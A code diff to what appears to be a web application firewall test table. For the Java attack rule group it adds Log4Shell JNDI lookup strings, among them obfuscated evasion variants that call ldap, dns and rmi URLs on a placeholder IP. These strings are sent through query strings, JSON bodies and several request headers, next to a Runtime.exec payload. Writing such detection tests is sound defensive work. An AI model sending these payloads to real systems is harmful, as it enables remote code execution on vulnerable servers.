@@ -161,7 +161,15 @@ export const attacks: Readonly<Record<number, readonly Ask[]>> = {
   ],
   944: [
     query('java.lang.Runtime.getRuntime().exec("id")'),
-    query('${jndi:ldap://192.0.2.9/a}'),
+    ...[
+      '${jndi:ldap://192.0.2.9/a}',
+      '${${lower:j}ndi:dns://192.0.2.9/a}',
+      '${${::-j}${::-n}di:rmi://192.0.2.9/a}',
+    ].flatMap((text) => [
+      query(text),
+      json({ text }),
+      ...['user-agent', 'referer', 'x-api-version'].map((name) => ({ path: '/', headers: { [name]: text } })),
+    ]),
     json({ expression: 'java.lang.ProcessBuilder' }),
   ],
 }
